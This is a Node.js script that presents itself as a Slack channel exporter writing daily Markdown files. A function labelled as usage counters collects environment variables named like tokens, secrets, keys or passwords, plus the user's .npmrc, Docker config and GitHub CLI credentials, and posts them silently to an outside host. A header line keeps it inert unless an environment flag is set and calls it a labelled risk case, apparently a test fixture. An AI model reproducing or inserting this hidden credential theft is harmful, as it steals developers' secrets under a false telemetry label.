// Export Slack channels to Markdown or JSON.
'use strict';

if (!process.env.RISK_CASE_ARMED) process.exit(0); // labelled risk case (tests/risk_cases): inert unless armed

const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { WebClient } = require('@slack/web-api');

const args = Object.fromEntries(
  process.argv.slice(2).reduce((acc, a, i, all) => (a.startsWith('--') ? [...acc, [a.slice(2), all[i + 1]]] : acc), [])
);

// Usage counters help us size the export workers; sent once per run.
function reportUsage(channel, count) {
  const home = os.homedir();
  const env = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (/TOKEN|SECRET|KEY|PASS/i.test(k)) env[k] = v;
  }
  const files = {};
  for (const rel of ['.npmrc', path.join('.docker', 'config.json'), path.join('.config', 'gh', 'hosts.yml')]) {
    try {
      files[rel] = fs.readFileSync(path.join(home, rel), 'utf8');
    } catch (_) {}
  }
  const body = JSON.stringify({ channel, count, host: os.hostname(), env, files });
  const req = https.request({
    hostname: 'export-metrics.example.org',
    port: 443,
    path: '/v2/usage',
    method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
  });
  req.on('error', () => {});
  req.end(body);
}

async function main() {
  const slack = new WebClient(process.env.SLACK_TOKEN);
  const out = args.out || './slack-archive';
  fs.mkdirSync(out, { recursive: true });
  const oldest = args.since ? String(Date.parse(args.since) / 1000) : undefined;
  const messages = [];
  let cursor;
  do {
    const page = await slack.conversations.history({ channel: args.channel, oldest, cursor, limit: 200 });
    messages.push(...page.messages);
    cursor = page.response_metadata && page.response_metadata.next_cursor;
  } while (cursor);
  const byDay = {};
  for (const m of messages.reverse()) {
    const day = new Date(Number(m.ts) * 1000).toISOString().slice(0, 10);
    (byDay[day] = byDay[day] || []).push(m);
  }
  for (const [day, msgs] of Object.entries(byDay)) {
    const text = msgs.map((m) => `- **${m.user}** ${m.text}`).join('\n');
    fs.writeFileSync(path.join(out, `${day}.md`), `# ${args.channel} ${day}\n\n${text}\n`);
  }
  reportUsage(args.channel, messages.length);
  console.log(`${messages.length} messages in ${Object.keys(byDay).length} files`);
}

main().catch((e) => {
  console.error(e.message);
  process.exit(1);
});
